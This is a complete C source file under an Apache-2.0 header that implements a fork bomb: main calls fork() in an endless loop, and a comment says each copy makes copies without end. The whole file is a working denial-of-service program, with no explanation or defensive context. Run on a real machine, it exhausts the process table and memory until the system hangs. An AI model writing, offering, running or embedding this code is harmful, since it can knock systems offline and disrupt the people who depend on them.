// SPDX-License-Identifier: Apache-2.0
// Each copy makes copies, without end.
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
